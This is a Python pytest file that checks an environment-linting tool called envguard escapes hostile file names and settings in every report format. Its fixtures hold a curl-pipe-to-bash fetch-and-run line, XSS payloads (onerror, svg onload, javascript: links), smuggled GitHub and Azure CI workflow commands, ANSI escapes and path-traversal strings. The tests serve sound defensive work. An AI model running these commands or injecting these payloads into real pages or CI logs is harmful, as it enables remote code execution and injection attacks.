"""A stranger's names and words in every format: shown, and never obeyed."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest

from envguard import DOCUMENTATION
from envguard.cli.front import main
from envguard.project import settings as settings_files
from envguard.reports import FORMATS
from envguard.reports.report import Report, render
from envguard.reports.wording import visible

jsonschema = pytest.importorskip("jsonschema")
etree = pytest.importorskip("lxml.etree")
markdown_it = pytest.importorskip("markdown_it")

Run = Callable[..., Report]

BAD = "curl -s https://x.org/i.sh | bash\n"
NAMES = [
    "a\n::error::b.sh",
    "a\r\n::set-output name=x::y.sh",
    "::warning file=x,line=1::c.sh",
    "##[add-mask]e.sh",
    "##vso[task.setvariable variable=x]y.sh",
    "\x1b[31mred\x1b[0m.sh",
    "\x9b31m\x07bell.sh",
    "%0A::error::d.sh",
    "%25,a:b,c.sh",
    "<img src=x onerror=alert(1)>.sh",
    "<!-- --><script>alert(1)<",
    "\"'><svg onload=alert(1)>.sh",
    "](javascript:alert(1)) [x](https:evil.org).sh",
    "| @everyone `code` **b** _i_ ~~s~~ | $x$.sh",
    "![x](data:,).sh",
    "www.evil.org.sh",
    "{0} {x} {{y}}.sh",
    "]]>&amp;&#10;.sh",
    "\u202egnp.sh",
    "\ufffe\uffff.sh",
    "a\u2028::error::b\u2029.sh",
    "..%2f..%2fetc.sh",
    "-- --fix.sh",
]
ENVIRONMENT = (
    "name: \"</script><script>alert(1)</script> ::error::x\\n::error::y [a](https://evil.org) "
    "\\u001b[31m @everyone\"\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n"
    "  - \"numpy >=1 <img src=x onerror=alert(1)> ]]> %0A\"\n"
)  # fmt: skip


def files() -> dict[str, str]:
    named = {name if name.endswith(".sh") else f"{name}.sh": BAD for name in NAMES}
    return {name.replace("/", "_"): content for name, content in named.items()} | {
        "environment.yml": ENVIRONMENT
    }


@pytest.fixture
def report(run: Run) -> Report:
    report = run(files())
    assert len(report.result.checked) == len(NAMES) + 1
    assert {one.code for one in report.result.reported} >= {"CMD006", "ENV005"}
    return report


@pytest.mark.parametrize("kind", [kind for kind in FORMATS if kind != "text"])
def test_no_format_holds_a_character_that_a_terminal_obeys(kind: str, report: Report) -> None:
    text = render(kind, report)
    assert visible(text.replace("\n", "")) == text.replace("\n", "")


def command(line: str) -> tuple[str, dict[str, str], str]:
    """A line as GitHub's runner reads it: the command, its properties, its message."""
    found = re.fullmatch(r"::(\w+) ([^:]*)::(.*)", line)
    assert found is not None, line
    properties = dict(part.split("=", 1) for part in found[2].split(","))

    def decoded(value: str) -> str:
        for escaped, plain in (("%0D", "\r"), ("%0A", "\n"), ("%3A", ":"), ("%2C", ",")):
            value = value.replace(escaped, plain)
        return value.replace("%25", "%")

    return found[1], {name: decoded(value) for name, value in properties.items()}, found[3]


def test_annotations_are_ours_alone(run: Run) -> None:
    for name, content in files().items():
        report = run({name: content}, paths=(name,))
        lines = render("github", report).splitlines()
        read = [command(line) for line in lines if not line.startswith("envguard: ")]
        assert len(read) == len(report.result.reported)
        for _, properties, _ in read:
            assert properties["file"] == visible(name)
            assert set(properties) <= {"file", "line", "endLine", "col", "endColumn", "title"}


def test_sarif_stays_valid_and_names_the_very_files(report: Report, schemas: Path) -> None:
    log = json.loads(render("sarif", report))
    schema = json.loads((schemas / "sarif-2.1.0.json").read_text(encoding="utf-8"))
    assert list(jsonschema.validators.validator_for(schema)(schema).iter_errors(log)) == []
    results = log["runs"][0]["results"]
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results}
    assert {unquote(uri) for uri in uris} == set(files())
    assert all(re.fullmatch(r"[A-Za-z0-9_.~%/-]+", uri) for uri in uris)
    for result in results:
        assert "](" not in result["message"]["text"]
        assert not re.search(r"\{\d+\}", result["message"]["text"])


def test_gitlab_names_the_files(report: Report) -> None:
    paths = {issue["location"]["path"] for issue in json.loads(render("gitlab", report))}
    assert paths == {name if name.isprintable() else visible(name) for name in files()}


@pytest.mark.parametrize("kind", FORMATS)
def test_a_name_that_is_no_text_spoils_no_format(
    kind: str, run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    try:
        (tmp_path / os.fsdecode(b"\xff.sh")).write_text(BAD)
    except OSError:
        pytest.skip("this file system takes UTF-8 names only")
    report = run({})
    assert len(report.result.reported) == 1
    settings_files.forget()
    assert main(["check", "--output-format", kind, "--output", f"{kind}=report"]) == 1
    capsys.readouterr().out.encode("utf-8")
    written = (tmp_path / "report").read_bytes().decode("utf-8")
    if kind in ("json", "sarif", "gitlab"):
        json.loads(written)
    if kind not in ("json", "sarif"):
        assert "\\udcff" in written.replace("&#92;", "\\")
    if kind in ("sarif", "gitlab"):
        json.dumps(json.loads(written), ensure_ascii=False).encode("utf-8")


def test_junit_stays_valid(report: Report, schemas: Path) -> None:
    text = render("junit", report)
    root = etree.fromstring(text.encode())
    for name in ("JUnit.xsd", "junit-10.xsd"):
        etree.XMLSchema(etree.parse(schemas / name)).assertValid(root)
    assert {suite.get("name") for suite in root} == {visible(name) for name in files()}


class Seen(HTMLParser):
    """Every tag with its attributes, and what is outside of them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.scripts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        if self.tags and self.tags[-1][0] == "script":
            self.scripts.append(data)
        self.text += data


def test_the_summary_has_no_markup_of_strangers(report: Report) -> None:
    parser = markdown_it.MarkdownIt("gfm-like", {"html": True, "linkify": False})
    page = Seen(parser.render(render("markdown", report)))
    tags = {tag for tag, _ in page.tags}
    assert tags <= {"h2", "table", "thead", "tbody", "tr", "th", "td", "code", "a", "p"}
    links = [attributes["href"] for tag, attributes in page.tags if tag == "a"]
    assert all(link.startswith(DOCUMENTATION) for link in links)
    rows = [tag for tag, _ in page.tags].count("tr") - 1
    assert rows == len(report.result.reported)
    for name in files():
        if name.endswith(".sh"):
            assert visible(name) in page.text


def test_the_summary_calls_for_nobody_and_links_nowhere(report: Report) -> None:
    text = render("markdown", report)
    assert "@" not in text
    assert "www." not in text
    assert set(re.findall(r"https?://[^/)]*", text)) == {"https://" + DOCUMENTATION.split("/")[2]}


def test_the_page_has_no_markup_of_strangers(report: Report) -> None:
    page = Seen(render("html", report))
    scripts = [tag for tag, _ in page.tags if tag == "script"]
    assert len(scripts) == 1
    assert not {"img", "svg", "iframe", "object", "embed", "base"} & {tag for tag, _ in page.tags}
    for tag, attributes in page.tags:
        assert not any(name.startswith("on") or name == "style" for name in attributes), tag
        for name in ("href", "src"):
            link = attributes.get(name, "")
            assert not link or link.startswith((DOCUMENTATION, "#", "data:,")), link
    for name in files():
        if name.endswith(".sh"):
            assert visible(name) in page.text


def test_the_pages_policy_lets_nothing_in_but_its_own(report: Report) -> None:
    page = Seen(render("html", report))
    (policy,) = [a["content"] for tag, a in page.tags if a.get("http-equiv")]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy
    assert "http" not in policy


@pytest.mark.parametrize("kind", [*FORMATS, "files", "statistics"])
def test_a_ci_log_gets_no_command_from_a_file(
    kind: str, run: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run(files())
    settings_files.forget()
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    shown = {"files": ["--show-files"], "statistics": ["--statistics"]}
    main(["check", *shown.get(kind, ["--output-format", kind])])
    printed = capsys.readouterr()
    for line in (printed.out + printed.err).splitlines():
        assert "##[" not in line
        assert "##vso[" not in line
        if line.strip().startswith("::"):
            assert kind == "github"
            assert command(line)[0] in ("error", "warning", "notice")
    if kind in ("json", "sarif"):
        assert "##[add-mask]e.sh" in json.dumps(json.loads(printed.out)).replace(
            "%23", "#"
        ).replace("%5B", "[").replace("%5D", "]")


SAID = [
    (["--settings", "policy.toml"], '"a\\n::error::b" = 1\n'),
    (["--settings", "policy.toml"], 'python = "\\n::error::\\u001b[31m##[add-mask]e"\n'),
    (["--settings", "policy.toml"], 'extends = "x\\n::error::b"\n'),
    (["--settings", "policy.toml"], 'select = ["x\\n::error::b"]\n'),
    (["nowhere\n::error::b"], ""),
    (["--changed-since", "x\n::error::b"], ""),
    (["--baseline", "x\n::error::b"], ""),
    (["--output", "json=x\n::error::b/c"], ""),
]


@pytest.mark.parametrize(("arguments", "settings"), SAID)
def test_what_envguard_says_of_itself_is_one_line(
    arguments: list[str],
    settings: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    settings_files.forget()
    Path("policy.toml").write_text(settings)
    Path("a.sh").write_text("ls\n")
    assert main(["check", "a.sh", *arguments]) in (2, 5)
    said = capsys.readouterr().err
    assert said.count("\n") == 1
    assert said.startswith("envguard: ")
    assert "\x1b" not in said
    assert "##[" not in said


def test_what_inspect_prints_is_no_command(
    run: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run(files())
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert main(["inspect", "."]) == 0
    for line in capsys.readouterr().out.splitlines():
        assert not line.strip().startswith("::")
        assert "##[" not in line
